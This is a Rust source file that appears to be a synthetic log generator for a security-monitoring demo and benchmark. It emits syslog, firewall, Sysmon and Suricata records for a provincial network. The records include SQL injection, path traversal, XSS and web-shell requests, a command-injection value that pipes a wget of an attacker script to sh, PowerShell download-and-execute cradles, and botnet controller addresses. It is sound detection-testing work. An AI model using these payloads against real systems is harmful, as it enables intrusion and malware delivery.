//! The one traffic generator: records as the province's devices write them.
//! The demo's feed sends them through the real inputs a few at a time; the
//! load generator writes the same records as fast as a socket takes them.
//!
//! Everything is deterministic for a seed (the demo looks the same on every
//! run) and times are the wall clock read by [`Traffic::refresh_time`], so
//! a tight loop formats a line without reading the clock or allocating.

use std::fmt::Write as _;

use chrono::Utc;
use tocsin_model::{AssetKind, Inventory};

use crate::province::Rng;

/// Attackers' addresses (outside the province's ranges).
pub const ATTACKERS: &[&str] = &[
    "45.155.205.233",
    "185.220.101.47",
    "193.42.33.18",
    "103.145.13.22",
    "91.240.118.172",
    "222.186.30.112",
    "61.177.172.140",
];

/// Ordinary destinations of agency devices (the load generator's firewall
/// records, which must not raise anything).
const ORDINARY_SITES: &[(&str, &str)] = &[
    ("142.250.66.78", "www.google.com"),
    ("203.162.4.191", "dichvucong.gov.vn"),
    ("113.160.22.10", "vnexpress.net"),
];

/// Botnet controllers agency devices call (the seed's 1,925 agency IPs),
/// with the sensor signature that names them.
pub const C2: &[(&str, &str)] = &[
    (
        "162.243.103.246",
        "ET MALWARE Feodo Tracker Reported CnC Server group 1",
    ),
    (
        "50.16.216.118",
        "ET MALWARE Win32/Emotet CnC Activity (POST) M9",
    ),
    ("192.99.178.145", "ET MALWARE QakBot CnC Checkin"),
    (
        "104.168.155.129",
        "ET MALWARE Cobalt Strike Beacon Observed",
    ),
];

/// Ordinary visitors (Vietnamese ISPs).
const VISITORS: &[&str] = &[
    "113.160.", "14.232.", "171.244.", "116.96.", "27.72.", "42.112.",
];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 Chrome/130.0 Mobile Safari/537.36",
    "Zalo/24.10 (Android)",
];

const PAGES: &[&str] = &[
    "/",
    "/tin-tuc/",
    "/thu-tuc-hanh-chinh/",
    "/van-ban/quyet-dinh-2026.pdf",
    "/lien-he",
    "/static/css/main.css",
    "/static/js/app.js",
    "/images/banner.jpg",
];

/// Web attacks as they appear in access logs.
pub const WEB_ATTACKS: &[&str] = &[
    "/tin-tuc/chi-tiet.php?id=12%27%20union%20select%201,2,concat(user,0x3a,password)%20from%20users--",
    "/index.php?page=../../../../etc/passwd",
    "/uploads/2026/wso.php",
    "/uploads/images/shell.php?cmd=whoami",
    "/search?q=1%27%20or%20%271%27%3d%271",
    "/van-ban/download.php?file=..%2f..%2f..%2fwp-config.php",
    "/api/list?id=1;waitfor delay '0:0:5'--",
];

/// The province as the generator sees it: names and address blocks.
#[derive(Clone, Debug)]
struct Province {
    servers: Vec<String>,
    websites: Vec<String>,
    /// (agency code, /24 prefix like "10.36.12.")
    lans: Vec<(String, String)>,
    domain_controller: String,
}

impl Province {
    fn new(inv: &Inventory) -> Self {
        let host = |k: AssetKind| -> Vec<String> {
            inv.assets
                .iter()
                .filter(|a| a.kind == k)
                .filter_map(|a| a.hostnames.first().cloned())
                .collect()
        };
        let or = |v: Vec<String>, d: &str| if v.is_empty() { vec![d.to_string()] } else { v };
        let servers = or(host(AssetKind::Server), "srv01.dc.ngocson.gov.vn");
        let mut lans: Vec<(String, String)> = inv
            .agencies
            .iter()
            .filter_map(|a| {
                let r = a
                    .ranges
                    .iter()
                    .find(|r| r.is_ipv4() && r.prefix_len() == 24)?;
                let s = r.addr().to_string();
                let prefix = s.rsplit_once('.')?.0.to_string() + ".";
                Some((a.code.as_str().to_string(), prefix))
            })
            .collect();
        if lans.is_empty() {
            lans.push(("TTCNTT".into(), "10.36.1.".into()));
        }
        let domain_controller = servers
            .iter()
            .find(|h| h.starts_with("ad"))
            .cloned()
            .unwrap_or_else(|| "ad05.dc.ngocson.gov.vn".into());
        Province {
            servers,
            websites: or(host(AssetKind::Website), "ngocson.gov.vn"),
            lans,
            domain_controller,
        }
    }
}

/// The generator.
#[derive(Clone, Debug)]
pub struct Traffic {
    p: Province,
    rng: Rng,
    /// Lines of the load mix so far.
    n: u64,
    /// `Nov 30 10:00:00` (syslog, Vietnam time).
    bsd: String,
    /// `30/Nov/2026:10:00:00 +0700` (access logs).
    clf: String,
}

impl Traffic {
    /// A generator over `inv` (names and ranges), deterministic for `seed`.
    pub fn new(inv: &Inventory, seed: u64) -> Self {
        let mut t = Traffic {
            p: Province::new(inv),
            rng: Rng(seed | 1),
            n: 0,
            bsd: String::new(),
            clf: String::new(),
        };
        t.refresh_time();
        t
    }

    /// Reads the clock once for the lines that follow.
    pub fn refresh_time(&mut self) {
        let now = Utc::now().with_timezone(&tocsin_model::vietnam_offset());
        self.bsd = now.format("%b %e %H:%M:%S").to_string();
        self.clf = now.format("%d/%b/%Y:%H:%M:%S %z").to_string();
    }

    /// An agency LAN address: (agency code, address).
    fn lan_host(&mut self) -> (String, String) {
        let (agency, lan) = self.rng.pick(&self.p.lans).clone();
        let ip = format!("{lan}{}", self.rng.below(200) + 20);
        (agency, ip)
    }

    /// A bare access-log line (combined format) of a website; an attack one
    /// time in 25.
    pub fn access_line(&mut self) -> String {
        let mut s = String::with_capacity(256);
        let attack = self.rng.chance(40);
        self.write_access(&mut s, attack);
        s
    }

    fn write_access(&mut self, s: &mut String, attack: bool) {
        let (status, path) = if attack {
            let ip = *self.rng.pick(ATTACKERS);
            let _ = write!(s, "{ip}");
            (
                *self.rng.pick(&[403u16, 404, 200, 500]),
                *self.rng.pick(WEB_ATTACKS),
            )
        } else {
            let _ = write!(
                s,
                "{}{}.{}",
                self.rng.pick(VISITORS),
                self.rng.below(255),
                self.rng.below(254) + 1
            );
            (200, *self.rng.pick(PAGES))
        };
        let ua = if attack && self.rng.chance(500) {
            "sqlmap/1.8.4#stable (https://sqlmap.org)"
        } else {
            self.rng.pick(AGENTS)
        };
        let bytes = 500 + self.rng.below(40_000);
        let _ = write!(
            s,
            " - - [{}] \"GET {path} HTTP/1.1\" {status} {bytes} \"-\" \"{ua}\"",
            self.clf
        );
    }

    /// A website's access-log line as nginx sends it over syslog.
    pub fn web_syslog(&mut self) -> String {
        let mut s = String::with_capacity(300);
        let attack = self.rng.chance(40);
        self.write_web_syslog(&mut s, attack);
        s
    }

    fn write_web_syslog(&mut self, s: &mut String, attack: bool) {
        let site = self.rng.below(self.p.websites.len());
        let _ = write!(s, "<190>{} {} nginx: ", self.bsd, self.p.websites[site]);
        self.write_access(s, attack);
    }

    /// An sshd line: mostly deploy keys, now and then a password guess.
    pub fn ssh(&mut self) -> String {
        let mut s = String::with_capacity(200);
        let guess = self.rng.chance(300);
        self.write_ssh(&mut s, guess);
        s
    }

    fn write_ssh(&mut self, s: &mut String, guess: bool) {
        let host = self.rng.below(self.p.servers.len());
        let pid = 1000 + self.rng.below(60_000);
        let _ = write!(s, "<38>{} {} sshd[{pid}]: ", self.bsd, self.p.servers[host]);
        if guess {
            let _ = write!(
                s,
                "Failed password for invalid user {} from {} port {} ssh2",
                self.rng
                    .pick(&["admin", "oracle", "test", "ubuntu", "postgres"]),
                self.rng.pick(ATTACKERS),
                30_000 + self.rng.below(30_000)
            );
        } else {
            let _ = write!(
                s,
                "Accepted publickey for deploy from 10.36.250.{} port {} ssh2: ED25519 SHA256:Qm9vdGgK",
                self.rng.below(20) + 5,
                40_000 + self.rng.below(20_000)
            );
        }
    }

    /// A sudo line of a server's administrator.
    pub fn sudo(&mut self) -> String {
        let mut s = String::with_capacity(200);
        self.write_sudo(&mut s);
        s
    }

    fn write_sudo(&mut self, s: &mut String) {
        let host = self.rng.below(self.p.servers.len());
        let _ = write!(
            s,
            "<85>{} {} sudo:   quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
            self.bsd, self.p.servers[host]
        );
    }

    /// The core firewall's CEF record of an agency device reaching out:
    /// mostly ordinary sites; one record in three is an infected device's
    /// beacon to its botnet controller (denied now and then).
    pub fn cef(&mut self) -> String {
        let mut s = String::with_capacity(300);
        if self.rng.chance(333) {
            self.write_beacon(&mut s);
        } else {
            self.write_cef(&mut s, false);
        }
        s
    }

    /// How many devices of the province are infected in the simulation:
    /// each calls one controller, again and again, from the same address.
    pub const INFECTED: usize = 12;

    /// One infected device's beacon: device `k` of [`Self::INFECTED`] sits
    /// in the LAN of an agency spread over the province and calls the
    /// controller `k` picks.
    fn write_beacon(&mut self, s: &mut String) {
        let k = self.rng.below(Self::INFECTED);
        let step = (self.p.lans.len() / Self::INFECTED).max(1);
        let lan = &self.p.lans[(k * step) % self.p.lans.len()].1;
        let (dst, name) = C2[k % C2.len()];
        let deny = self.rng.chance(250);
        let _ = write!(
            s,
            "<134>{} fw-core-01 CEF:0|Fortinet|FortiGate|7.4.3|0000000013|{}|{}|src={lan}{} spt={} dst={dst} dpt=443 proto=TCP act={} cs1Label=policy cs1=BLOCK-BOTNET msg={name}",
            self.bsd,
            if deny {
                "traffic:forward deny"
            } else {
                "traffic:forward accept"
            },
            if deny { 5 } else { 3 },
            77 + k,
            49_152 + self.rng.below(10_000),
            if deny { "deny" } else { "accept" },
        );
    }

    /// A firewall record; `c2` picks a botnet controller as destination
    /// (denied now and then), otherwise an ordinary site, accepted.
    fn write_cef(&mut self, s: &mut String, c2: bool) {
        let lan = self.rng.below(self.p.lans.len());
        let host = self.rng.below(200) + 20;
        let (dst, name) = if c2 {
            *self.rng.pick(C2)
        } else {
            *self.rng.pick(ORDINARY_SITES)
        };
        let deny = c2 && self.rng.chance(700);
        let _ = write!(
            s,
            "<134>{} fw-core-01 CEF:0|Fortinet|FortiGate|7.4.3|0000000013|{}|{}|src={}{host} spt={} dst={dst} dpt=443 proto=TCP act={} cs1Label=policy cs1=BLOCK-BOTNET msg={name}",
            self.bsd,
            if deny {
                "traffic:forward deny"
            } else {
                "traffic:forward accept"
            },
            if deny { 5 } else { 3 },
            self.p.lans[lan].1,
            49_152 + self.rng.below(10_000),
            if deny { "deny" } else { "accept" },
        );
    }

    /// A Windows event as Winlogbeat ships it: logons at the domain
    /// controller, and now and then an encoded PowerShell download cradle
    /// started by Word on an agency PC (Sysmon).
    pub fn windows(&mut self) -> String {
        let ts = Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
        let (agency, ip) = self.lan_host();
        if self.rng.chance(100) {
            let pc = format!("PC-{agency}-{:03}", self.rng.below(60) + 1);
            return serde_json::json!({
                "@timestamp": ts,
                "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"},
                "host": {"name": pc, "ip": [ip]},
                "winlog": {
                    "channel": "Microsoft-Windows-Sysmon/Operational",
                    "event_id": 1,
                    "computer_name": pc,
                    "provider_name": "Microsoft-Windows-Sysmon",
                    "event_data": {
                        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                        "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        "User": format!("{agency}\\nhanvien")
                    }
                }
            })
            .to_string();
        }
        let failed = self.rng.chance(200);
        serde_json::json!({
            "@timestamp": ts,
            "event": {"code": if failed {"4625"} else {"4624"}},
            "winlog": {
                "channel": "Security",
                "event_id": if failed {4625} else {4624},
                "computer_name": self.p.domain_controller,
                "provider_name": "Microsoft-Windows-Security-Auditing",
                "event_data": {
                    "TargetUserName": format!("cb.{}", self.rng.below(400)),
                    "TargetDomainName": "NGOCSON",
                    "IpAddress": ip,
                    "LogonType": "3"
                }
            }
        })
        .to_string()
    }

    /// A Suricata EVE record: DNS lookups of agency devices, and now and
    /// then an alert for one calling a botnet controller.
    pub fn eve(&mut self) -> String {
        let (_, src) = self.lan_host();
        let ts = Utc::now()
            .with_timezone(&tocsin_model::vietnam_offset())
            .format("%Y-%m-%dT%H:%M:%S%.6f%z")
            .to_string();
        if self.rng.chance(250) {
            let (dst, sig) = *self.rng.pick(C2);
            return serde_json::json!({
                "timestamp": ts, "flow_id": self.rng.next_u64() >> 12, "in_iface": "ens19", "event_type": "alert",
                "src_ip": src, "src_port": 49_152 + self.rng.below(10_000), "dest_ip": dst, "dest_port": 443, "proto": "TCP",
                "alert": {"action": "blocked", "gid": 1, "signature_id": 2_030_000 + self.rng.below(900), "rev": 3,
                    "signature": sig, "category": "A Network Trojan was detected", "severity": 1},
                "host": "ids-dc-01"
            })
            .to_string();
        }
        serde_json::json!({
            "timestamp": ts, "flow_id": self.rng.next_u64() >> 12, "event_type": "dns", "src_ip": src, "src_port": 53_000,
            "dest_ip": "10.36.250.53", "dest_port": 53, "proto": "UDP",
            "dns": {"type": "query", "id": self.rng.below(65_000), "rrname": self.rng.pick(&["dichvucong.ngocson.gov.vn", "mail.ngocson.gov.vn", "update.microsoft.com", "zalo.me"]), "rrtype": "A"},
            "host": "ids-dc-01"
        })
        .to_string()
    }

    /// `n` failed root passwords from one attacker against one server.
    pub fn ssh_bruteforce(&mut self, n: usize) -> Vec<String> {
        let host = self.rng.pick(&self.p.servers).clone();
        let ip = *self.rng.pick(ATTACKERS);
        (0..n)
            .map(|i| {
                format!(
                    "<38>{} {host} sshd[{}]: Failed password for root from {ip} port {} ssh2",
                    self.bsd,
                    20_000 + i,
                    40_000 + i
                )
            })
            .collect()
    }

    /// `n` failed Windows logons from one agency PC at the domain
    /// controller, against a few administrator accounts.
    pub fn windows_bruteforce(&mut self, n: usize) -> Vec<String> {
        let (_, ip) = self.lan_host();
        (0..n)
            .map(|i| {
                serde_json::json!({
                    "@timestamp": Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
                    "winlog": {"channel": "Security", "event_id": 4625, "computer_name": self.p.domain_controller,
                        "event_data": {"TargetUserName": format!("administrator{}", i % 3), "IpAddress": ip, "LogonType": "3"}}
                })
                .to_string()
            })
            .collect()
    }

    /// A brute force on a server's SSH that finds the password:
    /// `failures` failed logons as `admin` from one attacker, then the
    /// success — the takeover the figures count.
    pub fn ssh_takeover(&mut self, failures: usize) -> Vec<String> {
        let host = self.rng.pick(&self.p.servers).clone();
        let ip = "45.95.147.236";
        let mut v: Vec<String> = (0..failures)
            .map(|i| {
                format!(
                    "<38>{} {host} sshd[{}]: Failed password for admin from {ip} port {} ssh2",
                    self.bsd,
                    30_000 + i,
                    50_000 + i
                )
            })
            .collect();
        v.push(format!(
            "<38>{} {host} sshd[31999]: Accepted password for admin from {ip} port 51999 ssh2",
            self.bsd
        ));
        v
    }

    /// A web-attack campaign from one address against a commune website:
    /// a scanner's probes, SQL injection, XSS, traversal, command
    /// injection and a web shell, mostly refused (403/404), some answered.
    pub fn web_campaign(&mut self) -> Vec<String> {
        let site = self.p.websites.last().cloned().unwrap_or_default();
        let ip = "185.220.101.47";
        const CAMPAIGN: &[(&str, u16, &str)] = &[
            (
                "/.env",
                404,
                "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
            ),
            (
                "/phpmyadmin/index.php",
                404,
                "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
            ),
            (
                "/tin-tuc/chi-tiet.php?id=12%27%20and%201%3D1--",
                200,
                "sqlmap/1.8.4#stable (https://sqlmap.org)",
            ),
            (
                "/tin-tuc/chi-tiet.php?id=-12%20union%20all%20select%201,concat(user,0x3a,password),3%20from%20nguoidung--",
                200,
                "sqlmap/1.8.4#stable (https://sqlmap.org)",
            ),
            (
                "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                200,
                "Mozilla/5.0",
            ),
            (
                "/tai-lieu/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
                403,
                "Mozilla/5.0",
            ),
            (
                "/lien-he.php?email=a%40b.vn%3Bwget%20http%3A%2F%2F185.220.101.47%2Fx.sh%7Csh",
                500,
                "Mozilla/5.0",
            ),
            ("/uploads/2026/wso.php", 404, "Mozilla/5.0"),
            ("/uploads/images/shell.php?cmd=whoami", 200, "Mozilla/5.0"),
        ];
        CAMPAIGN
            .iter()
            .map(|(path, status, ua)| {
                format!(
                    "<190>{} {site} nginx: {ip} - - [{}] \"GET {path} HTTP/1.1\" {status} 512 \"-\" \"{ua}\"",
                    self.bsd, self.clf
                )
            })
            .collect()
    }

    /// A malware outbreak in one agency: on `n` PCs a Word document starts
    /// PowerShell, and Windows Defender then reports the trojan.
    pub fn malware_outbreak(&mut self, n: usize) -> Vec<String> {
        let (agency, ip) = self.lan_host();
        let ts = Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
        (0..n)
            .flat_map(|i| {
                let pc = format!("PC-{agency}-{:03}", 100 + i);
                [
                    serde_json::json!({
                        "@timestamp": ts, "host": {"name": pc, "ip": [ip]},
                        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "computer_name": pc,
                            "provider_name": "Microsoft-Windows-Sysmon",
                            "event_data": {"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "CommandLine": "powershell.exe -nop -w hidden -c \"iex (iwr http://103.97.125.19/ky-luat.ps1)\"",
                                "User": format!("{agency}\\nhanvien{i}")}}
                    })
                    .to_string(),
                    serde_json::json!({
                        "@timestamp": ts, "host": {"name": pc, "ip": [ip]},
                        "winlog": {"channel": "Microsoft-Windows-Windows Defender/Operational", "event_id": 1116, "computer_name": pc,
                            "provider_name": "Microsoft-Windows-Windows Defender",
                            "event_data": {"Threat Name": "Trojan:Win32/Emotet.RPX!MTB", "Severity Name": "Severe",
                                "Path": format!("file:_C:\\Users\\nhanvien{i}\\Downloads\\QD-ky-luat-2026.doc")}}
                    })
                    .to_string(),
                ]
            })
            .collect()
    }

    /// `n` requests of one source at the first website, answered 503.
    pub fn web_flood(&mut self, n: usize) -> Vec<String> {
        let site = self.p.websites[0].clone();
        let ip = "5.188.62.214";
        (0..n)
            .map(|i| {
                format!(
                    "<190>{} {site} nginx: {ip} - - [{}] \"GET /?r={i} HTTP/1.1\" 503 0 \"-\" \"Go-http-client/1.1\"",
                    self.bsd, self.clf
                )
            })
            .collect()
    }

    /// The load mix, one newline-terminated syslog line appended to `out`:
    /// half web requests, a quarter sshd, the rest firewall and sudo; every
    /// `attack_every`-th line is a SQL injection answered 403.
    pub fn mix_line(&mut self, attack_every: u64, out: &mut String) {
        self.n += 1;
        let n = self.n;
        if n.is_multiple_of(attack_every.max(1)) {
            let site = self.rng.below(self.p.websites.len());
            let _ = write!(
                out,
                "<190>{} {} nginx: {} - - [{}] \"GET /tin-tuc/chi-tiet.php?id={n}%27%20union%20select%201,2,3-- HTTP/1.1\" 403 512 \"-\" \"sqlmap/1.8\"",
                self.bsd,
                self.p.websites[site],
                self.rng.pick(ATTACKERS),
                self.clf
            );
        } else {
            match n % 8 {
                0..=3 => self.write_web_syslog(out, false),
                4..=5 => self.write_ssh(out, false),
                6 => self.write_cef(out, false),
                _ => self.write_sudo(out),
            }
        }
        out.push('\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_generated_record_parses() {
        let inv = crate::province();
        let mut t = Traffic::new(&inv, 7);
        let parser = tocsin_parse::ParserConfig::default().build();
        let rx = tocsin_parse::Received {
            input: "t",
            at: Utc::now(),
            peer: None,
        };
        use tocsin_parse::Format;
        let mut records: Vec<(Format, String)> = Vec::new();
        for _ in 0..200 {
            records.push((Format::Syslog, t.web_syslog()));
            records.push((Format::Syslog, t.ssh()));
            records.push((Format::Syslog, t.sudo()));
            records.push((Format::Syslog, t.cef()));
            records.push((Format::AccessLog, t.access_line()));
            records.push((Format::Windows, t.windows()));
            records.push((Format::SuricataEve, t.eve()));
        }
        records.extend(t.ssh_bruteforce(3).into_iter().map(|l| (Format::Syslog, l)));
        records.extend(t.web_flood(3).into_iter().map(|l| (Format::Syslog, l)));
        records.extend(
            t.windows_bruteforce(3)
                .into_iter()
                .map(|l| (Format::Windows, l)),
        );
        for (f, r) in &records {
            let ev = parser.parse(*f, r.as_bytes(), &rx);
            assert_eq!(ev.parse_error, None, "{r}");
        }
    }

    #[test]
    fn the_load_mix_parses_and_attacks_come_at_the_rate() {
        let mut t = Traffic::new(&crate::province(), 1);
        let mut buf = String::new();
        for _ in 0..1000 {
            t.mix_line(50, &mut buf);
        }
        let parser = tocsin_parse::ParserConfig::default().build();
        let rx = tocsin_parse::Received {
            input: "t",
            at: Utc::now(),
            peer: None,
        };
        let mut attacks = 0;
        for line in buf.lines() {
            let ev = parser.parse(tocsin_parse::Format::Syslog, line.as_bytes(), &rx);
            assert_eq!(ev.parse_error, None, "{line}");
            // Only the attack lines may raise anything: the benchmark's
            // alert count and cost depend on it.
            assert_ne!(
                ev.fields.get_str("event.outcome"),
                Some("failure"),
                "{line}"
            );
            assert!(!C2.iter().any(|(ip, _)| line.contains(ip)), "{line}");
            attacks += usize::from(
                ev.fields
                    .get_str("url.original")
                    .is_some_and(|u| u.contains("union")),
            );
        }
        assert_eq!(attacks, 20);
    }
}
